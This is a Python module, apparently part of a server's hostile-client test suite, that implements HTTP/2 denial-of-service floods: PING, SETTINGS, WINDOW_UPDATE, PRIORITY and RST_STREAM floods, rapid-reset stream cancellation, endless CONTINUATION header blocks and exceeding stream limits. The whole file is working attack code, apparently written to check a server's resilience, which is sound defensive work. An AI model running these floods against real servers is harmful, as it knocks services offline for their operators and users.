"""Frames by the thousand: each allowed, or nearly, and all of them work for nothing."""

from collections.abc import Iterator
from itertools import islice

from hyperframe.frame import (
    ContinuationFrame,
    Frame,
    PingFrame,
    PriorityFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from support.hostile.attack import Attack
from support.hostile.connections import REQUEST
from support.hostile.peer import CLASSIFY, STREAM, Peer, cancelled, connect, data

_AT_ONCE = 500


async def pings(address: str, times: int) -> None:
    """PING without end."""
    await _flood(address, (PingFrame(0, b"12345678") for _ in range(times)))


async def ping_answers(address: str, times: int) -> None:
    """Answers to pings that nobody sent."""
    await _flood(address, (_flagged(PingFrame(0, b"12345678"), "ACK") for _ in range(times)))


async def settings(address: str, times: int) -> None:
    """SETTINGS without end, each of which wants an answer, and moves all windows."""
    await _flood(address, (SettingsFrame(settings={4: 65535 + number % 2}) for number in range(times)))


async def window_updates(address: str, times: int) -> None:
    """WINDOW_UPDATE without end, and then one too many."""
    await _flood(address, (WindowUpdateFrame(0, 1) for _ in range(times)))
    await _flood(address, (WindowUpdateFrame(0, 2**31 - 1) for _ in range(3)))


async def priorities(address: str, times: int) -> None:
    """PRIORITY without end, for streams that do not exist."""
    await _flood(address, (PriorityFrame(3 + 2 * number, depends_on=1) for number in range(times)))


async def rapid_reset(address: str, times: int) -> None:
    """Calls that are complete, and taken back with the next frame."""
    async with await connect(address) as peer:
        await _send_all(peer, (frame for _ in range(times) for frame in _call_and_cancel(peer)))
        await peer.heard()


async def rapid_reset_of_streams(address: str, times: int) -> None:
    """Streams that are opened, and taken back with the next frame."""
    async with await connect(address) as peer:
        await _send_all(peer, (frame for _ in range(times) for frame in _stream_and_cancel(peer)))
        await peer.heard()


async def resets(address: str, times: int) -> None:
    """RST_STREAM without end, of one stream."""
    async with await connect(address) as peer:
        stream = peer.headers(STREAM)
        await peer.send(stream)
        await _send_all(peer, (cancelled(stream.stream_id) for _ in range(times)))
        await peer.heard()


async def empty_data(address: str, times: int) -> None:
    """DATA of no bytes without end."""
    async with await connect(address) as peer:
        stream = peer.headers(STREAM)
        await peer.send(stream)
        await _send_all(peer, (data(stream.stream_id, b"") for _ in range(times)))
        await peer.heard()


async def endless_headers(address: str, times: int) -> None:
    """A header block that goes on without end, in large frames and in empty ones."""
    for block in (b"\x00\x01a\x7f\x80\x7f" + b"v" * 16_000, b""):
        async with await connect(address) as peer:
            begin = peer.headers()
            begin.flags.discard("END_HEADERS")
            await peer.send(begin)
            await _send_all(peer, (ContinuationFrame(begin.stream_id, block) for _ in range(times)))
            assert await peer.ended()


async def more_streams_than_allowed(address: str, times: int) -> None:
    """Streams far beyond the limit of one connection, all left open."""
    async with await connect(address) as peer:
        await _send_all(peer, (peer.headers(STREAM) for _ in range(times)))
        await peer.heard()


async def _flood(address: str, frames: Iterator[Frame]) -> None:
    async with await connect(address) as peer:
        await _send_all(peer, frames)
        await peer.heard()


async def _send_all(peer: Peer, frames: Iterator[Frame]) -> None:
    """Sends until the server has had enough."""
    while some := list(islice(frames, _AT_ONCE)):
        if not await peer.send(*some):
            return


def _call_and_cancel(peer: Peer) -> list[Frame]:
    call = peer.call(CLASSIFY, REQUEST)
    return [*call, cancelled(call[0].stream_id)]


def _stream_and_cancel(peer: Peer) -> list[Frame]:
    headers = peer.headers(STREAM)
    return [headers, cancelled(headers.stream_id)]


def _flagged(frame: Frame, flag: str) -> Frame:
    frame.flags.add(flag)
    return frame


FLOODS = (
    Attack(pings, 10_000),
    Attack(ping_answers, 10_000),
    Attack(settings, 10_000),
    Attack(window_updates, 10_000),
    Attack(priorities, 10_000),
    Attack(rapid_reset, 2_000),
    Attack(rapid_reset_of_streams, 2_000),
    Attack(resets, 10_000),
    Attack(empty_data, 5_000),
    Attack(endless_headers, 500),
    Attack(more_streams_than_allowed, 2_000),
)
